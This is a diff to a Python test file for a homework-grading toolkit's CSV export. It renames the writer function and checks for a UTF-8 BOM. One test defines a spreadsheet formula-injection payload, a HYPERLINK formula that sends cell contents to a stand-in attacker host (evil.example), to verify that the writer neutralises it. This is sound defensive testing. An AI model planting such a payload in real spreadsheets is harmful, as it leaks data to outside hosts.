@@ -11,7 +11,7 @@ from hwkit.reports import (
     safe_stem,
     score_table,
     write_feedback,
-    write_grades_csv,
+    write_runs_csv,
 )
 from hwkit.results import SubmissionResult
 from hwkit.results import TestOutcome as Outcome
@@ -48,15 +48,16 @@ def all_passed() -> SubmissionResult:
     return make_result(score=5.0, max_score=5.0, tests=tests)
 
 
-def test_grades_csv_has_the_exact_header_and_one_row_per_result_in_order(tmp_path):
+def test_runs_csv_has_the_exact_header_and_one_row_per_result_in_order(tmp_path):
     results = [
         make_result(submission="b.ipynb", score=13.3333, max_score=30.0),
         make_result(submission="李四.ipynb", status="timeout (60 s)", score=0.0),
     ]
-    path = write_grades_csv(results, tmp_path / "out" / "grades.csv")
+    path = write_runs_csv(results, tmp_path / "out" / "a2-runs.csv")
     raw = path.read_bytes()
     assert b"\r\n" not in raw
-    text = raw.decode("utf-8")
+    assert raw.startswith("\ufeff".encode())  # the BOM: Excel reads 李四 right
+    text = raw.decode("utf-8-sig")
     header = "submission,score,max_score,status,duration_s,device,sha256,started_at"
     assert text.startswith(header + "\n") and len(text.splitlines()) == 3
     rows = list(csv.DictReader(text.splitlines()))
@@ -182,14 +183,14 @@ def columns_to_end(line: str, part: str) -> int:
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"30/30")'
 
 
-def test_grades_csv_text_cells_never_become_formulas_and_scores_stay_numbers(tmp_path):
+def test_runs_csv_text_cells_never_become_formulas_and_scores_stay_numbers(tmp_path):
     results = [
         make_result(submission=f"{HYPERLINK}.ipynb", status="error: @SUM(1)"),
         make_result(submission="+cmd.ipynb", status="-2+3"),
         make_result(submission="\tx.ipynb", score=-1.0),
     ]
-    path = write_grades_csv(results, tmp_path / "g.csv")
-    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
+    path = write_runs_csv(results, tmp_path / "g.csv")
+    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
     assert rows[0]["submission"] == f"'{HYPERLINK}.ipynb"
     assert rows[0]["status"] == "error: @SUM(1)"  # not at the start: a spreadsheet keeps it text
     # A status line always starts with its kind, so a reason can never open the cell.
